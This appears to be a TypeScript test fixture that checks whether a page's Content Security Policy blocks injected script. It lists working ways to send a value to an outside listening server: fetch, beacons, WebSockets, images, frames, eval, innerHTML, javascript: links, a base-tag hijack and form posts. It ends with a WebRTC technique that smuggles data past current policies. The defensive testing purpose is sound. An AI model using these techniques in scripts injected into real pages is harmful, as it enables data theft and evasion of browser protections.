/** What a script that got into a page would try in order to send a value out. `elsewhere` is a server that listens. */
export type Attack = (elsewhere: string) => unknown;

/** Imports of modules from elsewhere, as code: the test runner would rewrite a function that imports. */
export const IMPORTS: Readonly<Record<string, (elsewhere: string) => string>> = {
  import: (elsewhere) => `import('${elsewhere}/import')`,
  'data-import': () =>
    `import('data:text/javascript,document.documentElement.dataset.ran += " data-import"')`,
};

/**
 * Each runs in the page. It has got through if the server receives its name, or if the name is in `data-ran` of the
 * page's root: code made from text reports there. The last ones would lead away from the page.
 */
export const ATTACKS: Readonly<Record<string, Attack>> = {
  fetch: (elsewhere) => fetch(`${elsewhere}/fetch`, { method: 'POST', body: 'value' }),
  request: (elsewhere) => {
    const request = new XMLHttpRequest();
    request.open('GET', `${elsewhere}/request`);
    request.send();
  },
  beacon: (elsewhere) => navigator.sendBeacon(`${elsewhere}/beacon`, 'value'),
  'web-socket': (elsewhere) => {
    new WebSocket(`${elsewhere.replace('http', 'ws')}/web-socket`);
  },
  'event-source': (elsewhere) => {
    new EventSource(`${elsewhere}/event-source`);
  },
  image: (elsewhere) => {
    new Image().src = `${elsewhere}/image`;
  },
  'style-sheet': (elsewhere) => {
    const link = document.createElement('link');
    link.rel = 'stylesheet';
    link.href = `${elsewhere}/style-sheet`;
    document.head.append(link);
  },
  'style-element': (elsewhere) => {
    const style = document.createElement('style');
    style.textContent = `body { background: url(${elsewhere}/style-element) }`;
    document.head.append(style);
  },
  font: (elsewhere) => {
    const font = new FontFace('font', `url(${elsewhere}/font)`);
    // The promise fails with and without the policy: there is no font to load.
    font.load().catch(() => undefined);
  },
  media: (elsewhere) => {
    new Audio(`${elsewhere}/media`).load();
  },
  frame: (elsewhere) => {
    const frame = document.createElement('iframe');
    frame.src = `${elsewhere}/frame`;
    document.body.append(frame);
  },
  object: (elsewhere) => {
    const object = document.createElement('object');
    object.data = `${elsewhere}/object`;
    document.body.append(object);
  },
  ping: (elsewhere) => {
    const link = document.createElement('a');
    link.href = '#content';
    link.ping = `${elsewhere}/ping`;
    document.body.append(link);
    link.click();
  },
  'script-element': (elsewhere) => {
    const script = document.createElement('script');
    script.src = `${elsewhere}/script-element`;
    document.body.append(script);
  },
  'inline-script': () => {
    const script = document.createElement('script');
    script.textContent = 'document.documentElement.dataset.ran += " inline-script"';
    document.body.append(script);
  },
  'inline-handler': () => {
    const button = document.createElement('button');
    button.setAttribute('onclick', 'document.documentElement.dataset.ran += " inline-handler"');
    button.click();
  },
  worker: (elsewhere) => {
    const source = new Blob([`fetch('${elsewhere}/worker')`], { type: 'text/javascript' });
    new Worker(URL.createObjectURL(source));
  },
  // The debugger may make code from text in what it calls; a timer's code belongs to the page itself.
  eval: () => {
    // biome-ignore lint/security/noGlobalEval: this is the attack.
    setTimeout(() => eval('document.documentElement.dataset.ran += " eval"'));
  },
  'function-from-text': () => {
    setTimeout(() =>
      new Function('document.documentElement.dataset.ran += " function-from-text"')(),
    );
  },
  'timer-from-text': () => {
    setTimeout('document.documentElement.dataset.ran += " timer-from-text"');
  },
  markup: (elsewhere) => {
    document.createElement('p').innerHTML = `<img src="${elsewhere}/markup">`;
  },
  'markup-beside': (elsewhere) => {
    document.body.insertAdjacentHTML('beforeend', `<img src="${elsewhere}/markup-beside">`);
  },
  'markup-parsed': (elsewhere) => {
    const range = document.createRange();
    document.body.append(range.createContextualFragment(`<img src="${elsewhere}/markup-parsed">`));
  },
  'script-address': () => {
    const link = document.createElement('a');
    link.href = 'javascript:void (document.documentElement.dataset.ran += " script-address")';
    document.body.append(link);
    link.click();
  },
  base: (elsewhere) => {
    const base = document.createElement('base');
    base.href = `${elsewhere}/base/`;
    document.head.append(base);
    const image = new Image();
    image.src = 'base';
    if (base.href !== document.baseURI) throw new Error('The base is refused.');
  },
  form: (elsewhere) => {
    const form = document.createElement('form');
    form.action = `${elsewhere}/form`;
    form.method = 'post';
    document.body.append(form);
    form.submit();
  },
};

/**
 * What no policy refuses today: a peer connection sends its first packets to any address, with a name in them that the
 * script chooses. https://www.w3.org/TR/CSP3/#directive-webrtc is not in any browser yet.
 */
export const PEER_CONNECTION = async ({ port, value }: { port: number; value: string }) => {
  // The page has removed its own constructor; a frame has another.
  const frame = document.body.appendChild(document.createElement('iframe'));
  const Peer: typeof RTCPeerConnection = Reflect.get(
    frame.contentWindow ?? {},
    'RTCPeerConnection',
  );
  const connection = new Peer();
  connection.createDataChannel('out');
  const offer = await connection.createOffer();
  await connection.setLocalDescription(offer);
  const sdp = (offer.sdp ?? '')
    .replace(/^a=candidate.*\r\n/gm, '')
    .replace(/^a=ice-ufrag:.*$/m, `a=ice-ufrag:${value}`)
    .replace(/^a=ice-pwd:.*$/m, `a=ice-pwd:${'p'.repeat(24)}`)
    .replace('a=setup:actpass', 'a=setup:active')
    .concat(`a=candidate:1 1 udp 1 127.0.0.1 ${port} typ host\r\n`);
  await connection.setRemoteDescription({ type: 'answer', sdp });
};
